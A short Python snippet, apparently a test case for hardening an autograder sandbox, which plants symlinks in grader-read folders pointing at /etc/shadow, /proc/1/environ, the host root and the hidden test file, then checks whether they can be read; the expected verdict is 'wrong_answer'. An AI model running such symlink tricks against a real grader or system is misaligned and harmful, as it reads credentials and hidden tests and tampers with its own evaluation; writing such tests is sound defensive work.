# Puts links to the host and to the hidden tests where a grader would read or collect files.
# verdicts: wrong_answer
TARGETS = ("/", "/etc/shadow", "/proc/1/root", "/proc/1/environ", "../private/tests.py", "/proc/self/fd/3")


def attack():
    found = False
    for number, target in enumerate(TARGETS):
        for folder in ("/tmp/run", "/tmp/run/answer", "/tmp/run/public"):
            path = f"{folder}/{MARK}-{number}"
            try:
                os.symlink(target, path)
                with open(path, "rb") as file:
                    found = found or file.read(1) != b""
            except OSError:
                pass
    return found
